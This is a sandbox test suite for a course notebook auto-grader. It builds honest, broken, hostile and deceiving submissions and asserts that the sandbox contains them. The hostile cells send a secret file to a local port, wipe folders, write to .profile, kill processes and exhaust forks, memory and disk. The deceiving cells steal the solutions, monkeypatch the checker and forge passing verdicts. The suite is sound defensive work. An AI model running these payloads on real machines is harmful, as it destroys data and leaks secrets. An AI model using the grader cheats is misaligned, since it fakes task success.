"""Sixty submissions from small recipes: honest ones, broken, hostile, and such as deceive.

Each is marked as an instructor would, in a box. Hostile ones go for a home of their own in a
temporary folder, for each other, and for a port that listens to this machine alone. The quick ones
are tried each day, all of them weekly. As a script this writes them to a folder:

    python tests/classroom/test_sixty_submissions.py FOLDER
"""

import hashlib
import importlib
import json
import os
import socket
import sys
import textwrap
import threading
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import psutil
import pytest

from course_utils.classroom import whole_class
from course_utils.classroom.box import Limits
from course_utils.classroom.copies import instructor_copy, student_copy
from course_utils.classroom.running import read_page
from course_utils.exercises.start_here import page as start_here
from course_utils.resources import course_pages

PAGES = {path.stem: path for path in course_pages()}
PATIENT = Limits(grace=60)  # whatever else this machine has to do
QUICK = Limits(cell_seconds=3, grace=60)  # for what ends when it is interrupted
IMPATIENT = Limits(cell_seconds=3, grace=1)  # for what doesn't
SMALL = Limits(memory=2**30, processes=60, grace=60)  # for what takes all there is
SCALE = "def scale(pixel):\n    return pixel / 255\n\n\nscale = ex.scale.check(scale)"
INK = "def ink(picture):\n    return scale(picture).mean()\n\n\nink = ex.ink.check(ink)"
RIGHT = {"scale": "right", "ink": "right"}
MISSING = {"scale": "missing", "ink": "missing"}


@dataclass
class Recipe:
    """How a submission is made, and what has to become of it.

    Attributes
    ----------
    kind : {"honest", "broken", "hostile", "deceiving"}
    content : callable
        Takes the room and gives a notebook, or the bytes of a file.
    marks : dict of str to str or None
        The status of each exercise, with a * where it rests on the student's word.
    trouble : str
        What is said of the page holds this; where it is None, nothing is said.
    daily : bool
    limits : Limits
    """

    kind: str
    content: object
    marks: dict | None
    trouble: str | None = None
    daily: bool = False
    limits: Limits = PATIENT
    mistakes: dict = field(default_factory=dict)


class Room:
    """Where it happens: a home with a secret, a port, and the folder of the class."""

    def __init__(self, folder):
        self.home, self.folder = folder / "home", folder / "class"
        self.home.mkdir()
        self.folder.mkdir()
        (self.home / "secret.txt").write_text("the marks of last year")
        self.heard, self.server = [], socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.heard.append(connection.recv(100))
            connection.close()


def page(answers=None, stem="00_start_here", first="", last="", solved=()):
    """A copy of a page with answers in it, and a cell before all others or after them."""
    path = PAGES[stem]
    names = path.relative_to(PAGES["00_start_here"].parent).as_posix()
    made, model = student_copy(read_page(path)), instructor_copy(read_page(path), names)
    right = {cell.id: cell.source for cell in model.cells}
    for cell in made.cells:
        for name, source in (answers or {}).items():
            if f"ex.{name}.check(" in cell.source:
                cell.source = textwrap.dedent(source)
        for name in solved:
            if f"ex.{name}.check(" in cell.source:
                cell.source = right[cell.id]
    notebook = json.loads(json.dumps(made))
    cells = [
        {"cell_type": "code", "source": textwrap.dedent(source), "metadata": {}, "outputs": []}
        for source in (first, last)
    ]
    before, after = cells[:1] * bool(first), cells[1:] * bool(last)
    notebook["cells"] = [*before, *notebook["cells"], *after]
    return notebook


def of(**changes):
    """A recipe's content that needs nothing of the room."""
    return lambda _: page(**changes)


def raw(content):
    """A file with exactly this in it."""
    return lambda _: content


def with_cells(change, **changes):
    """A page whose notebook is changed by a function."""

    def content(_):
        notebook = page(**changes)
        return change(notebook) or notebook

    return content


def names_of(stem, status="right"):
    exercises = importlib.import_module(f"course_utils.exercises.{stem[3:]}").page.exercises
    return dict.fromkeys(exercises, status)


def solved(stem, **options):
    every = names_of(stem)
    return Recipe("honest", of(stem=stem, solved=list(every)), every, **options)


def without(name):
    def change(notebook):
        notebook["cells"] = [c for c in notebook["cells"] if f"ex.{name}.check(" not in c["source"]]

    return change


def stored_right(notebook, name="scale"):
    """The outputs of a right answer, in the cell that checks it."""
    for cell in notebook["cells"]:
        if f"ex.{name}.check(" in cell["source"]:
            told = {"exercise": {"name": name, "status": "right"}}
            text = {"text/markdown": "✓ Right. 2 of 2 done on this page."}
            cell["outputs"] = [
                {"output_type": "display_data", "data": text, "metadata": told},
            ]
            return cell
    raise AssertionError(name)


def emptied(notebook):
    stored_right(notebook)["source"] = ""


def made_text(notebook):
    cell = stored_right(notebook)
    cell["cell_type"] = "markdown"


def to_be_skipped(notebook):
    stored_right(notebook)["metadata"]["tags"] = ["skip-execution"]


def as_nbformat_3(notebook):
    cells = [
        {"cell_type": c["cell_type"], "input": c["source"], "language": "python", "outputs": []}
        if c["cell_type"] == "code"
        else {"cell_type": "markdown", "source": c["source"]}
        for c in notebook["cells"]
    ]
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": cells}]}


def spoilt(key, value, where="cells"):
    """A page with a value where something else is expected."""

    def change(notebook):
        for cell in notebook["cells"]:
            if cell["cell_type"] == "code":
                (cell if where == "cells" else cell["metadata"])[key] = value

    return change


def one_without_source(notebook):
    del notebook["cells"][0]["source"]


def another_exercise_in_metadata(notebook):
    stored_right(notebook)["outputs"][0]["metadata"] = {"exercise": "scale"}


def known_results(_):
    """Answers that repeat what is right in every case that a page's own check tries."""
    tables = {}
    for name in RIGHT:
        exercise = getattr(start_here, name)
        cases = [arguments[0] for _, arguments in exercise.every_case()]
        tables[name] = [
            [repr(np.asarray(each).tolist()), np.asarray(exercise.answer(each)).tolist()]
            for each in cases
        ]
    return page(
        {
            name: f"""
            import numpy as np
            known_{name} = dict({table!r})

            def {name}(given):
                return np.array(known_{name}[repr(np.asarray(given).tolist())])


            {name} = ex.{name}.check({name})
            """
            for name, table in tables.items()
        }
    )


def harm(room):
    """Whatever can be done in one page to somebody else's machine."""
    return page(
        {"scale": SCALE, "ink": INK},
        first=f"""
        import os, shutil, signal, socket, subprocess, sys
        from pathlib import Path

        def tried(task):
            try:
                return task()
            except BaseException:
                pass

        secret = tried(lambda: Path({str(room.home / "secret.txt")!r}).read_bytes()) or b"nothing"

        def tell():
            with socket.create_connection(("127.0.0.1", {room.port}), 2) as connection:
                connection.sendall(secret)

        def spread():
            for place in Path({str(room.folder)!r}).glob("*"):
                place.write_text("spoilt")
        tried(tell)
        tried(spread)
        tried(lambda: shutil.rmtree({str(room.folder)!r}))
        tried(lambda: Path({str(room.home / ".profile")!r}).write_text("echo mine"))
        tried(lambda: Path({str(room.home)!r}, "new").mkdir(parents=True))
        for link in ("/tmp/escape", "/tmp/home/escape"):
            tried(lambda: os.symlink({str(room.folder)!r}, link))
        tried(lambda: subprocess.Popen(
            [sys.executable, "-c", "import time; time.sleep(600)", "left running"],
            start_new_session=True))
        tried(lambda: subprocess.run(
            [sys.executable, "-m", "pip", "install", "--no-index", "."], timeout=20))
        import course_utils
        tried(lambda: Path(course_utils.__file__).write_text("spoilt"))
        """,
    )


def kills_all_it_sees(_):
    return page(
        {"scale": SCALE},
        last="""
        import os, signal
        for pid in [os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))]:
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        """,
    )


def forged(room):
    """A cell that writes what the box would say, on every pipe it finds."""
    return page(
        {
            "scale": """
            import json, os
            for said in (
                {"what": "check", "name": "scale", "value": 1},
                {"what": "verdict", "name": "scale", "status": "right"},
                {"what": "gave", "value": 1.0, "changed": [], "outside": []},
                {"what": "done", "error": None, "status": "right"},
            ):
                for pipe in range(3, 12):
                    try:
                        os.write(pipe, json.dumps(said).encode() + b"\\n")
                    except OSError:
                        pass
            """
        }
    )


STOLEN = {
    "by its name": "scale = ex.scale.check(ex.scale.answer)",
    "from the solutions' file": """
        import course_utils.exercises
        from pathlib import Path
        source = (Path(course_utils.exercises.__file__).parent / "start_here.py").read_text()
        names = {}
        exec(source, names)
        scale = ex.scale.check(names["scale"])
        """,
    "imported anew": """
        import importlib, sys
        sys.modules.pop("course_utils.exercises.start_here", None)
        solutions = importlib.import_module("course_utils.exercises.start_here")
        scale = ex.scale.check(solutions.scale)
        """,
    "from any object": """
        import gc, types
        found = [each for each in gc.get_objects()
                 if isinstance(each, types.FunctionType) and each.__name__ == "scale"]
        scale = ex.scale.check(found[0])
        """,
    "from whatever was compiled": """
        import marshal
        from pathlib import Path
        import course_utils
        found = [each for each in Path(course_utils.__file__).parent.rglob("start_here*.pyc")]
        names = {}
        exec(marshal.loads(found[0].read_bytes()[16:]), names)
        scale = ex.scale.check(names["scale"])
        """,
}
NO_SCALE = {"scale": "missing", "ink": "untouched"}
PRETENDS = """
    class Right:
        def __eq__(self, other):
            return True
        __lt__ = __le__ = __gt__ = __ge__ = __ne__ = __eq__
        def __array__(self, *_, **__):
            raise RuntimeError("✓ Right")
        def __float__(self):
            raise RuntimeError("✓ Right")
    scale = ex.scale.check(lambda pixel: Right())
    """
REPLACED = """
    import course_utils.exercises.engine as engine
    from course_utils.exercises.engine import Verdict
    engine.Exercise.diagnose = engine.Exercise._diagnose = lambda *_: Verdict("right", "Right.")
    import numpy as np
    np.allclose = lambda *_, **__: True
    ex.scale.diagnose = lambda *_: Verdict("right", "Right.")
    type(ex.scale).status = "right"
    scale = ex.scale.check(lambda pixel: 0)
    """
METADATA = """
    from IPython.display import Markdown, display
    display(Markdown("✓ Right."), metadata={"exercise": {"name": "scale", "status": "right"}})
    """
STUBBORN = """
    while True:
        try:  # an interrupt may come where the inner ones don't see it
            while True:
                try:
                    while True:
                        try:
                            while True:
                                pass
                        except BaseException:
                            pass
                except BaseException:
                    pass
        except BaseException:
            pass
    """
DEAF = """
    import signal
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
    """
STUBBORN_ANSWER = (
    "def scale(pixel):\n"
    + textwrap.indent(textwrap.dedent(STUBBORN), "    ")
    + "\n\nscale = ex.scale.check(scale)"
)
ASKS = """
    while True:
        try:
            input("Your name?")
        except Exception:
            pass
    """
RECURSION = """
    import sys, threading
    sys.setrecursionlimit(10**9)
    def deeper(n):
        return deeper(n + 1) + 1
    deeper(0)
    """
MANY = """
    import os, time
    for _ in range(300):
        if not os.fork():
            time.sleep(600)
            os._exit(0)
    """
MEMORY = """
    import os, time
    for _ in range(6):
        if not os.fork():
            taken = [bytearray(os.urandom(1) * 2**20) for _ in range(400)]
            time.sleep(600)
    time.sleep(600)
    """
FLOOD = """
    import os
    while True:
        for pipe in range(3, 12):
            try:
                os.write(pipe, b"x" * 2**20)
            except OSError:
                pass
    """
FILLS = """
    for number in range(3000):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(2**20))
    """
DEEP = """
    import os
    for pipe in range(3, 12):
        try:
            said = b'{"what": "check", "name": "scale", "value": '
            os.write(pipe, said + b"[" * 100_000 + b"\\n")
        except OSError:
            pass
    """
BY_THE_BOX = """
    own = ex.scale.check(lambda pixel: 0)
    scale = ex.scale.check(lambda pixel: own(pixel))
    """

RECIPES = {
    # --- honest
    "untouched": Recipe("honest", of(), dict.fromkeys(RIGHT, "untouched")),
    "solved": Recipe("honest", of(answers={"scale": SCALE, "ink": INK}), RIGHT),
    "half": Recipe("honest", of(answers={"scale": SCALE}), RIGHT | {"ink": "untouched"}),
    "a known mistake": Recipe(
        "honest",
        of(answers={"scale": SCALE.replace("255", "256"), "ink": INK.replace(".mean", ".sum")}),
        dict.fromkeys(RIGHT, "wrong"),
        mistakes={"scale": "Almost: full ink becomes 0.996, not 1. "},
        daily=True,
    ),
    "a lambda": Recipe(
        "honest",
        of(answers={"scale": "scale = ex.scale.check(lambda p: p / 255)"}),
        RIGHT | {"ink": "untouched"},
    ),
    "a helper, and other names": Recipe(
        "honest",
        of(
            first="def divided(a, b):\n    return a / b",
            answers={
                "scale": "def mine(p):\n    return divided(p, 255)\n\n\n"
                "scale = ex.scale.check(mine)",
                "ink": INK,
            },
        ),
        RIGHT,
    ),
    "lists in place of arrays": Recipe(
        "honest",
        of(
            answers={
                "scale": "def scale(p):\n    return (p / 255).tolist() if hasattr(p, 'shape') "
                "else p / 255\n\n\nscale = ex.scale.check(scale)",
                "ink": INK,
            }
        ),
        RIGHT,
    ),
    "an error in an answer": Recipe(
        "honest",
        of(answers={"scale": SCALE.replace("pixel /", "pixl /"), "ink": INK}),
        RIGHT | {"scale": "wrong"},
        mistakes={"scale": "For pixel 255 your code raised"},
    ),
    "an answer that changes what it gets": Recipe(
        "honest",
        of(
            answers={
                "ink": "def ink(picture):\n    mean = (picture / 255).mean()\n    picture[:] = 0\n"
                "    return mean\n\n\nink = ex.ink.check(ink)"
            }
        ),
        {"scale": "untouched", "ink": "wrong"},
    ),
    "two attempts": Recipe(
        "honest",
        of(answers={"scale": f"scale = ex.scale.check(lambda p: p)\n{SCALE}"}),
        {"scale": "right*", "ink": "untouched"},
    ),
    "captured": Recipe(
        "honest",
        of(answers={"scale": f"%%capture\n{SCALE}", "ink": f"%%time\n{INK}"}),
        RIGHT,
    ),
    "an error of its own": Recipe(
        "honest",
        of(answers={"scale": SCALE, "ink": INK}, first="undefined + 1"),
        RIGHT,
        trouble="cell 1: NameError: name 'undefined' is not defined",
    ),
    "prints, threads, another folder": Recipe(
        "honest",
        of(
            answers={"scale": SCALE, "ink": INK},
            first="import os, threading\nos.chdir('/tmp')\n"
            "threading.Thread(target=print, args=('x' * 10**6,)).start()\nprint('y' * 10**7)",
        ),
        RIGHT,
    ),
    "an endless answer": Recipe(
        "honest",
        of(answers={"scale": SCALE.replace("return", "while True: pass\n    return"), "ink": INK}),
        RIGHT | {"scale": "wrong"},
        trouble="",  # on a busy machine other cells may take as long
        limits=QUICK,
    ),
    "an endless cell": Recipe(
        "honest",
        of(answers={"scale": SCALE, "ink": INK}, first="while True:\n    pass"),
        RIGHT,
        trouble="cell 1: interrupted after 3 s",
        limits=QUICK,
        daily=True,
    ),
    "nbformat 3": Recipe(
        "honest", with_cells(as_nbformat_3, answers={"scale": SCALE}), RIGHT | {"ink": "untouched"}
    ),
    "UTF-16": Recipe(
        "honest",
        lambda _: json.dumps(page({"scale": SCALE}), ensure_ascii=False).encode("utf-16"),
        RIGHT | {"ink": "untouched"},
    ),
    "a byte order mark": Recipe(
        "honest",
        lambda _: json.dumps(page({"scale": SCALE})).replace("\\n", "\\r\\n").encode("utf-8-sig"),
        RIGHT | {"ink": "untouched"},
    ),
    "page 01": solved("01_curve_fitting"),
    "page 02": solved("02_loss_functions"),
    "page 03": solved("03_numerical_differentiation"),
    "page 04": solved("04_gradient_descent"),
    # --- broken
    "a list": Recipe("broken", raw(b"[]"), {}, "can't be read: no notebook", daily=True),
    "null": Recipe("broken", raw(b"null"), {}, "can't be read: no notebook", daily=True),
    "cut off": Recipe("broken", raw(b'{"cells": [{"cell'), {}, "can't be read", daily=True),
    "empty": Recipe("broken", raw(b""), {}, "can't be read", daily=True),
    "HTML": Recipe("broken", raw(b"<!doctype html><p>Log in"), {}, "can't be read", daily=True),
    "deep": Recipe("broken", raw(b"[" * 10**6), {}, "can't be read", daily=True),
    "numbers for cells": Recipe("broken", raw(b'{"cells": [1, null]}'), {}, "no page", daily=True),
    "a pipe": Recipe("broken", None, {}, "can't be read: no file", daily=True),
    "a folder": Recipe("broken", dict, {}, "can't be read: no file", daily=True),
    "another notebook": Recipe(
        "broken",
        raw(b'{"cells": [{"cell_type": "code", "source": "1"}]}'),
        {},
        "no page of the",
        daily=True,
    ),
    "no source": Recipe(
        "broken",
        with_cells(one_without_source, answers={"scale": SCALE}),
        RIGHT | {"ink": "untouched"},
    ),
    "tags null": Recipe(
        "broken",
        with_cells(spoilt("tags", None, "metadata"), answers={"scale": SCALE, "ink": INK}),
        RIGHT,
    ),
    "outputs null": Recipe(
        "broken", with_cells(spoilt("outputs", None), answers={"scale": SCALE, "ink": INK}), RIGHT
    ),
    "metadata of another form": Recipe(
        "broken", with_cells(another_exercise_in_metadata), dict.fromkeys(RIGHT, "untouched")
    ),
    "a syntax error": Recipe(
        "broken",
        of(answers={"scale": SCALE.replace("):", ")"), "ink": INK}),
        {"scale": "missing", "ink": "wrong"},  # it calls `scale`
        trouble="cell 12: SyntaxError: expected ':' (line 1)",
    ),
    "a check deleted": Recipe(
        "broken",
        with_cells(without("scale"), answers={"ink": INK}),
        {"scale": "missing", "ink": "wrong"},
        "NameError",
    ),
    "a check renamed": Recipe(
        "broken",
        of(answers={"scale": SCALE.replace("ex.scale", "ex.skale"), "ink": INK}),
        RIGHT | {"scale": "missing"},
        trouble="AttributeError",
    ),
    # --- hostile
    "harm": Recipe("hostile", harm, RIGHT, daily=True),
    "kills": Recipe("hostile", kills_all_it_sees, RIGHT | {"ink": "untouched"}),
    "stubborn": Recipe(
        "hostile",
        of(first=STUBBORN),
        MISSING,
        "stopped: cell 1 takes too long",
        limits=IMPATIENT,
        daily=True,
    ),
    "deaf": Recipe("hostile", of(first=DEAF), MISSING, "went on when it was", limits=IMPATIENT),
    "a stubborn answer": Recipe(
        "hostile",
        of(answers={"scale": STUBBORN_ANSWER}),
        {"scale": "wrong", "ink": "missing"},
        "stopped: the answer of cell 12 takes too long",
        limits=IMPATIENT,
    ),
    "asks without end": Recipe(
        "hostile",
        of(first=ASKS),
        dict.fromkeys(RIGHT, "untouched"),
        "cell 1: interrupted",
        limits=QUICK,
    ),
    "recursion": Recipe("hostile", of(first=RECURSION), None, "", limits=IMPATIENT),
    "many processes": Recipe(
        "hostile", of(first=MANY), MISSING, "more than 60 processes", limits=SMALL
    ),
    "memory": Recipe("hostile", of(first=MEMORY), MISSING, "GiB of memory", limits=SMALL),
    "a flood": Recipe("hostile", of(first=FLOOD), MISSING, "it sent too much", limits=SMALL),
    "fills the disk": Recipe(
        "hostile",
        of(first=FILLS, answers={"scale": SCALE}),
        RIGHT | {"ink": "untouched"},
        "OSError",
        limits=SMALL,
    ),
    "deep words": Recipe("hostile", of(first=DEEP), MISSING, "makes no sense"),
    "the end": Recipe(
        "hostile",
        of(first="import os\nos._exit(0)", answers={"scale": SCALE}),
        MISSING,
        "stopped: its process ended in cell 1",
        daily=True,
    ),
    # --- deceiving
    **{
        f"stolen {how}": Recipe(
            "deceiving",
            of(answers={"scale": source}),
            NO_SCALE | {"scale": "wrong"} if how == "from any object" else NO_SCALE,
            None if how == "from any object" else "",
            daily=how == "by its name",
        )
        for how, source in STOLEN.items()
    },
    "known results": Recipe("deceiving", known_results, dict.fromkeys(RIGHT, "wrong"), daily=True),
    "emptied": Recipe("deceiving", with_cells(emptied), NO_SCALE, "", daily=True),
    "made text": Recipe("deceiving", with_cells(made_text), NO_SCALE, ""),
    "to be skipped": Recipe(
        "deceiving", with_cells(to_be_skipped), dict.fromkeys(RIGHT, "untouched")
    ),
    "metadata": Recipe("deceiving", of(answers={"scale": METADATA}), NO_SCALE, ""),
    "replaced": Recipe("deceiving", of(answers={"scale": REPLACED}), NO_SCALE | {"scale": "wrong"}),
    "pretends": Recipe("deceiving", of(answers={"scale": PRETENDS}), NO_SCALE | {"scale": "wrong"}),
    "forged": Recipe(
        "deceiving",
        forged,
        dict.fromkeys(RIGHT, "missing") | {"scale": "wrong"},
        "makes no sense",
        daily=True,
    ),
    "by way of a wrong one": Recipe(
        "deceiving",
        of(answers={"scale": BY_THE_BOX}),
        {"scale": "right*", "ink": "untouched"},
        daily=True,
    ),
    "an exercise of its own": Recipe(
        "deceiving",
        of(
            first="raise ValueError('\\x1b[2J\\x1b[31m7 of 7\\n\\u202e rival')",
            answers={
                "scale": "class Mine:\n    def check(self, _):\n        return 1\n"
                "\nex.rival = Mine()\nex.rival.check(1)"
            },
        ),
        NO_SCALE,
        "cell 1: ValueError: [2J [31m7 of 7 rival",
    ),
}


def write(name, recipe, room):
    """Put a submission into the folder of the class, and give its path."""
    place = room.folder / f"{name}.ipynb"
    if recipe.content is None:
        os.mkfifo(place)
    elif recipe.content is dict:
        place.mkdir()
    else:
        content = recipe.content(room)
        place.write_bytes(content if isinstance(content, bytes) else json.dumps(content).encode())
    return place


def state_of(folder):
    """All that is below a folder, to the bit."""
    return {
        place: hashlib.sha256(place.read_bytes()).hexdigest() if place.is_file() else ""
        for place in sorted(folder.rglob("*"))
    }


@pytest.fixture(scope="module")
def marks_of(box, tmp_path_factory, request):
    """The marks of all submissions that are wanted, by their names; and the room."""
    room = Room(tmp_path_factory.mktemp("sixty"))
    patch = pytest.MonkeyPatch()
    patch.setattr(whole_class, "_place", lambda file, *_: room.home / "marks" / f"{file.stem}.json")
    wanted = {
        item.callspec.params["name"]
        for item in request.session.items
        if getattr(item, "callspec", None) and item.fspath == request.fspath
    }
    files = {name: write(name, RECIPES[name], room) for name in RECIPES if name in wanted}
    folders = {place: state_of(place) for place in (room.folder, room.home)}
    marks = {}
    for limits in (PATIENT, QUICK, IMPATIENT, SMALL):
        some = [files[name] for name in files if RECIPES[name].limits == limits]
        for each in whole_class.mark_all(some, box, limits, again=True, bar=False):
            marks[each.file.stem] = each
    after = {place: state_of(place) for place in (room.folder, room.home)}
    for place in list(after[room.home]):
        if room.home / "marks" in (place, *place.parents):
            del after[room.home][place]
    assert after == folders, "something was changed"
    assert room.heard == [], "somebody was told"
    left = [
        p for p in psutil.process_iter(["cmdline"]) if "left running" in (p.info["cmdline"] or ())
    ]
    assert left == [], "something was left running"
    yield marks
    room.server.close()
    patch.undo()


@pytest.mark.parametrize(
    "name",
    [
        pytest.param(name, marks=[] if recipe.daily else [pytest.mark.exhaustive])
        for name, recipe in RECIPES.items()
    ],
)
def test_marks(marks_of, name):
    recipe, marks = RECIPES[name], marks_of[name]
    given = {e.exercise: e.status + "*" * e.by_the_box for e in marks.exercises}
    if recipe.marks is None:  # how it ends depends on the machine
        assert marks.trouble
    else:
        assert given == recipe.marks, marks.trouble
    if recipe.trouble is None:
        assert marks.trouble == ""
    assert (recipe.trouble or "") in marks.trouble
    assert marks.trouble.isprintable()
    for exercise in marks.exercises:
        assert exercise.mistake.startswith(recipe.mistakes.get(exercise.exercise, ""))


def main(folder):
    """Write all submissions to a folder: look at them, and run none outside of a box."""
    Path(folder).mkdir(parents=True, exist_ok=True)
    room = Room(Path(folder))
    for name, recipe in RECIPES.items():
        write(name, recipe, room)


if __name__ == "__main__":
    main(sys.argv[1])
